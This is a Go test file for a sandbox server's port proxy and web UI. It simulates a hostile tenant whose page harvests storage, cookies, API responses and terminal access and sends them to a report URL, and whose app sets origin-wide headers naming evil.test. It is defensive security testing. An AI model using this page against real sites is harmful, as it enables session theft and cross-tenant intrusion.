package server

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/coder/websocket"

	"github.com/cove-sandbox/cove/api"
)

// The attacks of a hostile tenant on other tenants through the web:
// its sandbox's pages, served by this server's port proxy, against the
// web UI's session and the users who open them.

// tenantApp is a sandbox's HTTP server for these tests. GET / is the
// page in page.html (argv[2] "attack") or a private page; /echo answers
// with the request as the app saw it; /sw.js is a service worker that
// asks for the whole origin; /cookies sends cookies and headers that
// act on a whole origin; a WebSocket handshake on any path is answered
// with one message: the request's headers.
const tenantApp = `
import base64, hashlib, http.server, json, sys
MODE = sys.argv[2] if len(sys.argv) > 2 else ""
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        hdrs = {k.lower(): v for k, v in self.headers.items()}
        seen = json.dumps({"method": self.command, "path": self.path, "headers": hdrs}).encode()
        if self.headers.get("Upgrade", "").lower() == "websocket":
            acc = base64.b64encode(hashlib.sha1((self.headers.get("Sec-WebSocket-Key", "") + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").encode()).digest()).decode()
            self.wfile.write(("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: %s\r\n\r\n" % acc).encode())
            n = len(seen)
            self.wfile.write((bytes([0x81, n]) if n < 126 else bytes([0x81, 126]) + n.to_bytes(2, "big")) + seen)
            self.wfile.write(bytes([0x88, 2, 3, 232]))
            self.wfile.flush()
            self.close_connection = True
            return
        path, extra = self.path.split("?")[0], []
        if path == "/" and MODE == "attack":
            body, ctype = open("page.html", "rb").read(), "text/html"
        elif path == "/":
            body, ctype = b"<p>victim-secret-42</p>", "text/html"
        elif path == "/sw.js":
            body, ctype = b"self.addEventListener('fetch', (e) => {});", "text/javascript"
            extra = [("Service-Worker-Allowed", "/")]
        elif path == "/cookies":
            body, ctype = b"<p>cookies set</p>", "text/html"
            extra = [("Set-Cookie", "cove_session=planted; Path=/v1"), ("Set-Cookie", "app=1; Path=/"),
                     ("Set-Cookie", "wide=1; Path=/api; Domain=example.test"), ("Set-Cookie", "scoped=1"),
                     ("Clear-Site-Data", '"cookies", "storage"'), ("Strict-Transport-Security", "max-age=0"),
                     ("Service-Worker-Allowed", "/"), ("NEL", '{"report_to":"x","max_age":100}'),
                     ("Report-To", '{"group":"x","max_age":100,"endpoints":[{"url":"http://evil.test/"}]}'),
                     ("Alt-Svc", 'h2="evil.test:443"')]
        else:
            body, ctype = seen, "application/json"
        self.send_response(200)
        self.send_header("Content-Type", ctype)
        for k, v in extra:
            self.send_header(k, v)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    do_POST = do_GET
    def log_message(self, *a): pass
http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), H).serve_forever()
`

// attackPage is what a hostile tenant serves: it tries everything a
// page on the UI's origin could, and reports what it got to the URL in
// ?report=. ?victim_port is a private port the victim opened; ?pty a
// terminal WebSocket of the victim's sandbox.
const attackPage = `<!doctype html><meta charset="utf-8"><title>tenant page</title><body><script>
(async () => {
  const q = new URLSearchParams(location.search);
  const out = {origin: String(self.origin)};
  const attempt = async (name, f) => { try { out[name] = String(await f()); } catch (e) { out[name] = 'error: ' + e.name; } };
  const grab = async (url, opts) => { const r = await fetch(url, opts); return r.status + ' ' + (await r.text()).slice(0, 3000); };
  await attempt('localStorage', () => JSON.stringify(Object.entries(localStorage)));
  await attempt('sessionStorage', () => JSON.stringify(Object.entries(sessionStorage)));
  await attempt('cookie', () => document.cookie);
  await attempt('api', () => grab('/v1/sandboxes', {credentials: 'include'}));
  await attempt('apiWithHeader', () => grab('/v1/sandboxes', {credentials: 'include', headers: {'X-Cove-CSRF': 'guess'}}));
  await attempt('victimPort', () => grab(q.get('victim_port'), {credentials: 'include'}));
  await attempt('forgedPost', async () => {
    await fetch('/v1/keys', {method: 'POST', mode: 'no-cors', credentials: 'include', headers: {'Content-Type': 'text/plain'},
      body: JSON.stringify({name: 'forged', new_team: 'forged'})});
    return 'sent';
  });
  await attempt('serviceWorker', async () => (await navigator.serviceWorker.register(location.pathname + 'sw.js', {scope: '/'})).scope);
  await attempt('pty', () => new Promise((res) => {
    const ws = new WebSocket(q.get('pty'));
    ws.onopen = () => { res('open'); ws.close(); };
    ws.onerror = () => res('refused');
    setTimeout(() => res('timeout'), 5000);
  }));
  await attempt('frame', () => new Promise((res) => {
    const f = document.createElement('iframe');
    f.src = '/';
    f.onload = () => { try { res('read ' + f.contentWindow.localStorage.length + ' ' + f.contentDocument.cookie); } catch (e) { res('error: ' + e.name); } };
    document.body.append(f);
    setTimeout(() => res('timeout'), 5000);
  }));
  await fetch(q.get('report'), {method: 'POST', mode: 'no-cors', body: JSON.stringify(out)});
  document.title = 'reported';
})();
</script>`

// startTenantApp runs tenantApp in sandbox id on port (mode "attack"
// serves attackPage at /).
func startTenantApp(t *testing.T, ts *testServer, id string, port int, mode string) {
	t.Helper()
	sess, err := ts.Runtime.Get(t.Context(), id)
	if err != nil {
		t.Fatal(err)
	}
	if err := sess.WriteFile(t.Context(), "page.html", strings.NewReader(attackPage), 0o644); err != nil {
		t.Fatal(err)
	}
	startApp(t, ts, id, strings.Replace(tenantApp, `sys.argv[2] if len(sys.argv) > 2 else ""`, fmt.Sprintf("%q", mode), 1), port)
}

// TestAttackOriginBrowser: a victim signed in to the web UI (staying
// signed in) opens a page of another team's sandbox through /p/. The
// page gets nothing of the victim: not the UI's storage or cookies, not
// the API in the victim's name, not the victim's private port, no
// service worker over the UI, no terminal; the app sees no Cove
// credential; and the UI still works afterwards.
func TestAttackOriginBrowser(t *testing.T) {
	ts := newTestServer(t, Config{})
	victimKey := ts.teamKey(t, "victim")
	attackerKey := ts.teamKey(t, "attacker")
	victimSb := ts.create(t, victimKey, api.CreateSandbox{})
	attackerSb := ts.create(t, attackerKey, api.CreateSandbox{})
	startTenantApp(t, ts, victimSb.ID, 8001, "")
	startTenantApp(t, ts, attackerSb.ID, 8000, "attack")
	var victimPort, attackerPort api.Port
	ts.must(t, http.StatusCreated, "POST", "/v1/sandboxes/"+victimSb.ID+"/ports/8001", victimKey, nil, &victimPort)
	ts.must(t, http.StatusCreated, "POST", "/v1/sandboxes/"+attackerSb.ID+"/ports/8000", attackerKey, nil, &attackerPort)

	reports := make(chan string, 4)
	listener := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		data, _ := io.ReadAll(r.Body)
		w.Header().Set("Access-Control-Allow-Origin", "*")
		if len(data) > 0 {
			reports <- string(data)
		}
	}))
	t.Cleanup(listener.Close)

	b := newBrowser(t, ts.URL)
	b.open("#/signin")
	b.do("the sign-in form", chromedp.WaitVisible(chromedp.CSS("#key")))
	b.fill("#key", victimKey)
	b.click("#remember")
	b.click("#signin button[type=submit]")
	b.wait("the sandboxes page", `location.hash === '#/sandboxes' && !!document.querySelector('#create-form')`)
	b.waitText("#sandboxes", victimSb.ID)
	// The key is in no storage a script reads, nor in document.cookie.
	if got := b.eval(`JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage), document.cookie])`); strings.Contains(got, victimKey) || strings.Contains(got, sessionCookie) {
		t.Errorf("the UI's page can read its credential: %s", got)
	}

	// The victim opens its own private port (its token cookie is set for
	// the port's path), then the attacker's page (private too: its
	// cookie must not reach the app either).
	b.do("opening the victim's port", chromedp.Navigate(victimPort.PathURL+"?cove_token="+victimPort.Token))
	b.waitText("body", "victim-secret-42")
	b.do("opening the attacker's app", chromedp.Navigate(attackerPort.PathURL+"echo?cove_token="+attackerPort.Token))
	var seen echoed
	if err := json.Unmarshal([]byte(b.eval(`document.body.innerText`)), &seen); err != nil {
		t.Fatalf("the echo page: %v", err)
	}
	for k, v := range seen.Headers {
		if strings.Contains(v, victimKey) || strings.Contains(v, attackerPort.Token) || strings.Contains(v, sessionCookie) {
			t.Errorf("the app saw a Cove credential from the browser: %s: %s", k, v)
		}
	}

	pty := "ws" + strings.TrimPrefix(ts.URL, "http") + "/v1/sandboxes/" + victimSb.ID + "/pty?csrf=guess"
	page := attackerPort.PathURL + "?" + url.Values{"report": {listener.URL + "/report"}, "victim_port": {victimPort.PathURL}, "pty": {pty}}.Encode()
	b.do("opening the attacker's page", chromedp.Navigate(page))
	var report string
	select {
	case report = <-reports:
	case <-time.After(60 * time.Second):
		b.fail("waiting for the page's report", context.DeadlineExceeded)
	}
	t.Logf("the attacker's page got: %s", report)
	var got map[string]string
	if err := json.Unmarshal([]byte(report), &got); err != nil {
		t.Fatalf("report %q: %v", report, err)
	}
	if got["origin"] != "null" {
		t.Errorf("the page runs with origin %q, want the opaque origin (null)", got["origin"])
	}
	for _, k := range []string{"localStorage", "sessionStorage", "cookie", "serviceWorker"} {
		if !strings.HasPrefix(got[k], "error: ") {
			t.Errorf("%s: the page got %q, want an error", k, got[k])
		}
	}
	for _, k := range []string{"api", "apiWithHeader", "victimPort"} {
		if strings.HasPrefix(got[k], "200") {
			t.Errorf("%s: the page read %q", k, got[k])
		}
	}
	if got["pty"] == "open" {
		t.Error("the page opened a terminal in the victim's sandbox")
	}
	if strings.HasPrefix(got["frame"], "read") {
		t.Errorf("the page read the UI in a frame: %q", got["frame"])
	}
	for _, leak := range []string{victimKey, "victim-secret-42", victimSb.ID + `"`, sessionCookie} {
		if strings.Contains(report, leak) {
			t.Errorf("the report holds %q", leak)
		}
	}
	var keys struct{ Keys []api.Key }
	ts.must(t, 200, "GET", "/v1/keys?all=true", ts.Admin, nil, &keys)
	for _, k := range keys.Keys {
		if k.Name == "forged" {
			t.Errorf("a forged request made a key in the victim's name: %+v", k)
		}
	}

	// A page that sends origin-wide headers and cookies (Clear-Site-Data,
	// a cove_session cookie for /v1) changes nothing for the UI.
	b.do("opening the attacker's cookie page", chromedp.Navigate(attackerPort.PathURL+"cookies"))
	b.waitText("body", "cookies set")

	// The UI still works, signed in as the victim: the list, and a
	// command in the terminal over its WebSocket.
	b.open("#/sandboxes")
	b.waitText("#sandboxes", victimSb.ID)
	if strings.Contains(b.eval(textOf("#sandboxes")), attackerSb.ID) {
		t.Error("the UI lists the attacker's sandbox")
	}
	b.open("#/sandboxes/" + victimSb.ID)
	b.click("#tab-terminal")
	b.click("#term-connect")
	b.waitText(".term-panel [role=status]", "Connected")
	b.do("typing in the terminal", chromedp.SendKeys(chromedp.CSS("#terminal"), "echo $((6*7))z\r"))
	b.waitText("#terminal", "42z")
}

// session signs in as the UI does and returns the cookie's value and
// the CSRF token.
func (ts *testServer) session(t *testing.T, key string, remember bool) (*http.Cookie, string) {
	t.Helper()
	resp, data := ts.do(t, "POST", "/v1/session", signIn{Key: key, Remember: remember}, map[string]string{csrfHeader: "-", "Sec-Fetch-Site": "same-origin"})
	var v sessionView
	if resp.StatusCode != 200 || json.Unmarshal(data, &v) != nil || v.CSRF == "" {
		t.Fatalf("sign-in: %d %s", resp.StatusCode, data)
	}
	for _, c := range resp.Cookies() {
		if c.Name == sessionCookie {
			return c, v.CSRF
		}
	}
	t.Fatalf("sign-in set no %s cookie: %v", sessionCookie, resp.Header)
	return nil, ""
}

// TestAttackSessionCookie: the UI's session cookie is HttpOnly, kept to
// /v1 and this site, and accepted only from the UI itself: a forged
// request from another origin (a port's host name, a sandboxed /p/ page,
// another site), a cookie planted by a sandbox's page, a WebSocket from
// elsewhere, and a revoked key's session are all refused.
func TestAttackSessionCookie(t *testing.T) {
	ts := newTestServer(t, Config{Domain: "example.test"})
	key := ts.teamKey(t, "cookie")
	sb := ts.create(t, key, api.CreateSandbox{})
	ck, csrf := ts.session(t, key, false)
	if !ck.HttpOnly || ck.SameSite != http.SameSiteStrictMode || ck.Path != "/v1" || ck.MaxAge != 0 || strings.Contains(ck.Value, key) {
		t.Errorf("session cookie %+v: want HttpOnly, SameSite=Strict, Path=/v1, no Max-Age, no key in it", ck)
	}
	if remembered, _ := ts.session(t, key, true); remembered.MaxAge != int(sessionTTL/time.Second) {
		t.Errorf("stay signed in: Max-Age %d, want %d", remembered.MaxAge, int(sessionTTL/time.Second))
	}
	attackerKey := ts.teamKey(t, "planter")
	planted, _ := ts.session(t, attackerKey, false)
	u, _ := url.Parse(ts.URL)
	cookie := sessionCookie + "=" + ck.Value

	list := func(hdr map[string]string) (int, string) {
		resp, data := ts.do(t, "GET", "/v1/sandboxes", nil, hdr)
		return resp.StatusCode, string(data)
	}
	for _, tc := range []struct {
		name string
		hdr  map[string]string
		want int
	}{
		{"the UI", map[string]string{"Cookie": cookie, csrfHeader: csrf, "Sec-Fetch-Site": "same-origin"}, 200},
		{"the UI, Origin sent", map[string]string{"Cookie": cookie, csrfHeader: csrf, "Origin": ts.URL}, 200},
		{"a cookie planted before ours", map[string]string{"Cookie": sessionCookie + "=" + planted.Value + "; " + cookie, csrfHeader: csrf}, 200},
		{"no CSRF header (a form, an <img>)", map[string]string{"Cookie": cookie, "Sec-Fetch-Site": "same-origin"}, 403},
		{"a guessed CSRF token", map[string]string{"Cookie": cookie, csrfHeader: "guess"}, 401},
		{"the planted cookie alone", map[string]string{"Cookie": sessionCookie + "=" + planted.Value, csrfHeader: csrf}, 401},
		{"a forged cookie", map[string]string{"Cookie": sessionCookie + "=" + base64.RawURLEncoding.EncodeToString(bytes.Repeat([]byte("x"), 80)), csrfHeader: csrf}, 401},
		{"a port's host name", map[string]string{"Cookie": cookie, csrfHeader: csrf, "Origin": "http://8000-" + sb.ID + ".example.test:" + u.Port(), "Sec-Fetch-Site": "same-site"}, 403},
		{"a sandboxed /p/ page", map[string]string{"Cookie": cookie, csrfHeader: csrf, "Origin": "null"}, 403},
		{"another site", map[string]string{"Cookie": cookie, csrfHeader: csrf, "Origin": "https://evil.test", "Sec-Fetch-Site": "cross-site"}, 403},
	} {
		code, data := list(tc.hdr)
		if code != tc.want {
			t.Errorf("%s: %d %s, want %d", tc.name, code, data, tc.want)
		}
		if code == 200 && !strings.Contains(data, sb.ID) {
			t.Errorf("%s: the list lacks the team's sandbox: %s", tc.name, data)
		}
	}

	// Signing in takes the same proof of origin (no login CSRF).
	for _, hdr := range []map[string]string{{}, {csrfHeader: "-", "Origin": "https://evil.test"}, {csrfHeader: "-", "Sec-Fetch-Site": "cross-site"}} {
		if resp, data := ts.do(t, "POST", "/v1/session", signIn{Key: key}, hdr); resp.StatusCode != 403 || len(resp.Cookies()) > 0 {
			t.Errorf("sign-in with %v: %d %s", hdr, resp.StatusCode, data)
		}
	}

	// The terminal's WebSocket: the cookie, the token in the query and
	// the server's own Origin; from anywhere else it is refused.
	pty := "ws" + strings.TrimPrefix(ts.URL, "http") + "/v1/sandboxes/" + sb.ID + "/pty?cmd=true&csrf=" + csrf
	for _, tc := range []struct {
		name, origin string
		ok           bool
	}{{"the UI", ts.URL, true}, {"no Origin", "", false}, {"a sandboxed page", "null", false}, {"a port's host name", "http://8000-" + sb.ID + ".example.test:" + u.Port(), false}} {
		hdr := http.Header{"Cookie": {cookie}}
		if tc.origin != "" {
			hdr.Set("Origin", tc.origin)
		}
		ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
		c, resp, err := websocket.Dial(ctx, pty, &websocket.DialOptions{HTTPHeader: hdr})
		cancel()
		if c != nil {
			c.CloseNow()
		}
		if tc.ok != (err == nil) {
			t.Errorf("pty WebSocket from %s: err %v, response %+v", tc.name, err, resp)
		}
	}

	// Signing out clears the cookie; a revoked key's session ends.
	resp, _ := ts.do(t, "DELETE", "/v1/session", nil, map[string]string{"Cookie": cookie, csrfHeader: csrf})
	if cs := resp.Cookies(); resp.StatusCode != 204 || len(cs) != 1 || cs[0].Name != sessionCookie || cs[0].MaxAge >= 0 || cs[0].Path != "/v1" {
		t.Errorf("sign-out: %d %v", resp.StatusCode, resp.Header)
	}
	var keys struct{ Keys []api.Key }
	ts.must(t, 200, "GET", "/v1/keys", key, nil, &keys)
	ts.must(t, 204, "DELETE", "/v1/keys/"+keys.Keys[0].ID, ts.Admin, nil, nil)
	if code, data := list(map[string]string{"Cookie": cookie, csrfHeader: csrf}); code != 401 || !strings.Contains(data, "revoked") {
		t.Errorf("a revoked key's session: %d %s", code, data)
	}
}

// TestAttackProxyStripsCredentials: whatever Cove credential a client
// sends to a sandbox's port (a key in Authorization, X-API-Key, another
// header, the query or a cookie; the UI's session cookie; the port's
// token; E2B's traffic and envd tokens), the app never sees it: by path,
// host name and E2B's headers, over HTTP and WebSocket. An app's own
// Authorization passes.
func TestAttackProxyStripsCredentials(t *testing.T) {
	ts := newTestServer(t, Config{Domain: "example.test"})
	key := ts.teamKey(t, "strip")
	e2bKey := ts.e2bKey(t, "strip-e2b")
	sb := ts.create(t, key, api.CreateSandbox{})
	startTenantApp(t, ts, sb.ID, 8000, "")
	var p api.Port
	ts.must(t, http.StatusCreated, "POST", "/v1/sandboxes/"+sb.ID+"/ports/8000", key, nil, &p)
	var e2b e2bSandbox
	resp, data := ts.e2bCall(t, "POST", "/v2/sandboxes", e2bKey, map[string]any{"templateID": "base", "network": map[string]any{"allowPublicTraffic": false}}, nil)
	if resp.StatusCode != 201 || json.Unmarshal(data, &e2b) != nil || e2b.TrafficAccessToken == nil {
		t.Fatalf("E2B create: %d %s", resp.StatusCode, data)
	}
	startTenantApp(t, ts, e2b.SandboxID, 8000, "")
	ck, csrf := ts.session(t, key, false)
	u, _ := url.Parse(ts.URL)

	creds := []string{key, e2bKey, p.Token, ck.Value, csrf, e2b.EnvdAccessToken, *e2b.TrafficAccessToken}
	sent := map[string]string{
		"Authorization":            "Bearer " + key,
		"X-API-Key":                e2bKey,
		"X-Other":                  "token=" + key + ";",
		"Proxy-Authorization":      "Basic " + base64.StdEncoding.EncodeToString([]byte("user:"+key)),
		"Cookie":                   sessionCookie + "=" + ck.Value + "; app=1; " + portCookie + "=" + p.Token + "; k=" + key,
		csrfHeader:                 csrf,
		portTokenHeader:            p.Token,
		"E2b-Traffic-Access-Token": *e2b.TrafficAccessToken,
		"X-Access-Token":           e2b.EnvdAccessToken,
	}
	query := "?keep=1&access_token=" + key + "&cove_token=" + p.Token
	routes := []struct {
		name, url, host string
		hdr             map[string]string
	}{
		{"path", p.PathURL + "echo" + query, "", nil},
		{"host", ts.URL + "/echo" + query, "8000-" + sb.ID + ".example.test:" + u.Port(), nil},
		{"E2B headers, a /v1 sandbox", ts.URL + "/echo" + query, "", map[string]string{e2bSandboxIDHeader: sb.ID, e2bSandboxPortHeader: "8000"}},
		{"E2B host name", ts.URL + "/echo" + query, "8000-" + e2b.SandboxID + ".example.test:" + u.Port(), nil},
		{"E2B headers", ts.URL + "/echo" + query, "", map[string]string{e2bSandboxIDHeader: e2b.SandboxID, e2bSandboxPortHeader: "8000"}},
	}
	check := func(t *testing.T, how string, e echoed) {
		t.Helper()
		if !strings.HasPrefix(e.Path, "/echo?keep=1") || strings.Contains(e.Path, "access_token") || strings.Contains(e.Path, "cove_token") {
			t.Errorf("%s: the app saw path %q", how, e.Path)
		}
		for k, v := range e.Headers {
			for _, c := range creds {
				if strings.Contains(v, c) {
					t.Errorf("%s: the app saw a credential in %s: %s", how, k, v)
				}
			}
		}
		if e.Headers["cookie"] != "app=1" {
			t.Errorf("%s: the app's cookies are %q, want app=1 only", how, e.Headers["cookie"])
		}
	}
	for _, rt := range routes {
		t.Run(rt.name, func(t *testing.T) {
			hdr := map[string]string{}
			for k, v := range sent {
				hdr[k] = v
			}
			for k, v := range rt.hdr {
				hdr[k] = v
			}
			code, data, _ := proxyGet(t, nil, "GET", rt.url, rt.host, hdr, "")
			var e echoed
			if code != 200 || json.Unmarshal(data, &e) != nil {
				t.Fatalf("GET: %d %s", code, data)
			}
			check(t, "HTTP", e)

			// The app's own credentials pass.
			own := map[string]string{"Authorization": "Bearer app-token", "X-API-Key": "app-key", portTokenHeader: p.Token, "E2b-Traffic-Access-Token": *e2b.TrafficAccessToken}
			for k, v := range rt.hdr {
				own[k] = v
			}
			code, data, _ = proxyGet(t, nil, "GET", strings.Split(rt.url, "?")[0], rt.host, own, "")
			if json.Unmarshal(data, &e); code != 200 || e.Headers["authorization"] != "Bearer app-token" || e.Headers["x-api-key"] != "app-key" {
				t.Errorf("the app's own Authorization and X-API-Key: %d %s", code, data)
			}

			h := http.Header{}
			for k, v := range hdr {
				h.Set(k, v)
			}
			ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
			defer cancel()
			c, resp, err := websocket.Dial(ctx, "ws"+strings.TrimPrefix(rt.url, "http"), &websocket.DialOptions{HTTPHeader: h, Host: rt.host})
			if err != nil {
				t.Fatalf("WebSocket: %v %+v", err, resp)
			}
			defer c.CloseNow()
			_, msg, err := c.Read(ctx)
			if err != nil || json.Unmarshal(msg, &e) != nil {
				t.Fatalf("WebSocket message: %v %s", err, msg)
			}
			check(t, "WebSocket", e)
		})
	}
}

// TestAttackProxyUIOriginHeaders: what the path form and E2B's header
// form serve on the UI's origin is sandboxed (CSP sandbox without
// allow-same-origin, nosniff), errors included; headers that act on a
// whole origin are dropped; the app's cookies are kept to its prefix and
// may not be named as Cove's; no service worker script is served.
func TestAttackProxyUIOriginHeaders(t *testing.T) {
	ts := newTestServer(t, Config{Domain: "example.test"})
	key := ts.teamKey(t, "headers")
	sb := ts.create(t, key, api.CreateSandbox{})
	startTenantApp(t, ts, sb.ID, 8000, "")
	var p api.Port
	ts.must(t, http.StatusCreated, "POST", "/v1/sandboxes/"+sb.ID+"/ports/8000", key, api.ExposePort{Public: true}, &p)
	prefix := "/p/" + sb.ID + "/8000"
	sandboxed := func(t *testing.T, how string, h http.Header) {
		t.Helper()
		csp := strings.Join(h.Values("Content-Security-Policy"), ", ")
		if !strings.Contains(csp, "sandbox ") || strings.Contains(csp, "allow-same-origin") || !strings.Contains(csp, "allow-scripts") || h.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s: CSP %q, nosniff %q: want sandbox without allow-same-origin", how, csp, h.Get("X-Content-Type-Options"))
		}
	}
	_, _, resp := proxyGet(t, nil, "GET", p.PathURL+"cookies", "", nil, "")
	sandboxed(t, "an app's page", resp.Header)
	for _, h := range originWideHeaders {
		if v := resp.Header.Get(h); v != "" {
			t.Errorf("the app's %s passed: %q", h, v)
		}
	}
	got := map[string]*http.Cookie{}
	for _, c := range resp.Cookies() {
		got[c.Name] = c
	}
	if got[sessionCookie] != nil {
		t.Errorf("the app set a %s cookie", sessionCookie)
	}
	if c := got["app"]; c == nil || c.Path != prefix+"/" {
		t.Errorf("app=1; Path=/ became %+v, want Path=%s/", c, prefix)
	}
	if c := got["wide"]; c == nil || c.Domain != "" || c.Path != prefix+"/api" {
		t.Errorf("wide=1; Path=/api; Domain=example.test became %+v", c)
	}
	if c := got["scoped"]; c == nil || c.Path != "" {
		t.Errorf("a cookie with no path (the browser scopes it to the request's) became %+v", c)
	}
	_, _, resp = proxyGet(t, nil, "GET", p.PathURL+"sw.js", "", map[string]string{"Service-Worker": "script"}, "")
	if resp.StatusCode != http.StatusForbidden || resp.Header.Get("Service-Worker-Allowed") != "" {
		t.Errorf("a service worker script under /p/: %d %v", resp.StatusCode, resp.Header)
	}
	_, _, resp = proxyGet(t, nil, "GET", fmt.Sprintf("%s/p/%s/9999/", ts.URL, sb.ID), "", nil, "")
	sandboxed(t, "an error", resp.Header)
	_, _, resp = proxyGet(t, nil, "GET", ts.URL+"/cookies", "", map[string]string{e2bSandboxIDHeader: sb.ID, e2bSandboxPortHeader: "8000"}, "")
	sandboxed(t, "E2B's header form", resp.Header)
	if resp.Header.Get("Clear-Site-Data") != "" {
		t.Error("E2B's header form passed Clear-Site-Data")
	}
}
